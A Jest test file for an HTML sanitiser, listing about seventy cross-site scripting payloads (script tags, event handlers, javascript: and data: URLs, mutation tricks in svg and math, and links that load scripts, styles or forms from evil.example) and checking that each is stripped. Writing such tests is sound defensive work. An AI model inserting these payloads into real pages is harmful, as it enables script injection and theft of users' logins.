/** @jest-environment jsdom */
import { readContent } from './content-document.ts';
import { harmlessHtml } from './harmless-html.ts';

/** Parses HTML like a browser, not like the sanitiser. */
function elementsOf(html: string): Element[] {
  const template = document.createElement('template');
  template.innerHTML = html;
  return [...template.content.querySelectorAll('*')];
}

const harmlessTags =
  /^(h[234]|p|br|hr|blockquote|strong|b|em|i|small|su[pb]|a|[uo]l|li|table|caption|thead|tbody|tr|t[hd])$/;
const harmlessAttributes = /^(href|scope|colspan|rowspan)$/;

function expectHarmless(html: string) {
  for (const element of elementsOf(html)) {
    expect(element.localName).toMatch(harmlessTags);
    for (const { name } of element.attributes) expect(name).toMatch(harmlessAttributes);
    if (element.hasAttribute('href')) {
      const { protocol, host } = new URL(element.getAttribute('href') ?? '', 'https://own.example');
      expect(['https:', 'http:', 'mailto:', 'tel:']).toContain(protocol);
      expect(host).not.toBe('evil.example');
    }
  }
  expect(html).not.toContain('alert(1)');
}

/** Each would run `alert(1)` or make a request if it were not sanitised. */
const vectors = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr\0ipt>0</scr\0ipt>',
  '<script/x>alert(1)</script>',
  '<script\n>alert(1)</script\n>',
  '<<script>alert(1);//<</script>',
  '<script>alert(1)',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>',
  '<img src=x:x onerror\n=\nalert(1)>',
  '<img/src="x"/onerror=alert(1)>',
  '<img srcset="https://evil.example/1x">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><foreignObject><p onclick=alert(1)>x</p></foreignObject></svg>',
  '<svg><use href="data:image/svg+xml,<svg onload=alert(1)>"></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style></form>',
  '<p onclick="alert(1)">x</p>',
  '<p OnMouseOver=alert(1)>x</p>',
  '<p/onfocus=alert(1)/tabindex=1>x</p>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="position:fixed;inset:0">x</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="vbscript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="//evil.example/x">x</a>',
  '<a href="blob:https://evil.example/x">x</a>',
  '<a href="x" onclick="alert(1)" target="_blank" ping="https://evil.example">x</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<applet code="x"></applet>',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<style></style><img src=x onerror=alert(1)><style></style>',
  '<form action="https://evil.example"><input name=password><button>x</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<body onload=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">0</x:script>',
  '<p id="location" name="cookie" class="x" data-boundary="x">x</p>',
  '<a id=x name=forms href="/">x</a>',
];

it('S189: these tests cover at least 60 attack vectors', () => {
  expect(new Set(vectors).size).toBeGreaterThanOrEqual(60);
});

it.each(vectors)('S189: sanitises %j', (vector) => {
  expectHarmless(harmlessHtml(vector));
  expectHarmless(harmlessHtml(`<p>before ${vector} after</p>`));
});

it.each([
  '<h2>Hours</h2><p>From <strong>7.30am</strong> to <em>six</em></p>',
  '<ul><li>One</li><li><a href="/cookies">Two</a></li></ul>',
  '<p><a href="https://example.com/?a=1&amp;b=2">Out</a> <a href="tel:+441632960100">Call</a></p>',
  '<table><thead><tr><th scope="col">Tyre</th></tr></thead><tbody><tr><td>£50</td></tr></tbody></table>',
  '<p>Fish &amp; chips &lt;b&gt;</p>',
])('S189: leaves allowed HTML unchanged: %s', (html) => {
  expect(harmlessHtml(html)).toBe(html);
});

it('turns an h1 into an h2, because only the page title is an h1', () => {
  expect(harmlessHtml('<h1>Loud</h1>')).toBe('<h2>Loud</h2>');
});

it('S189: sanitises the body, blocks and fields of a stored page', () => {
  const harm = '<p>Kept</p><script>alert(1)</script>';
  const stored = {
    title: 'About us',
    seo: { title: null, description: null, noindex: false },
    updated_at: '2026-01-05T09:00:00Z',
    template: 'page',
    lead: null,
    image: null,
    body: harm,
    form_id: null,
    blocks: [{ type: 'text', id: 'text', heading: null, html: harm }],
    fields: [
      { slug: 'promise', name: 'Promise', type: 'html', value: harm },
      { slug: 'raw', name: 'Raw', type: 'json', value: '{"text":"<3"}' },
    ],
  };
  const page = readContent('page', {
    kind: 'page',
    slug: 'about-us',
    position: 1,
    published_at: '2026-01-05T09:00:00Z',
    document: JSON.stringify(stored),
  });
  expect(page.body).toBe('<p>Kept</p>');
  expect(page.blocks).toMatchObject([{ html: '<p>Kept</p>' }]);
  expect(page.fields.map(({ value }) => value)).toEqual(['<p>Kept</p>', '{"text":"<3"}']);
});
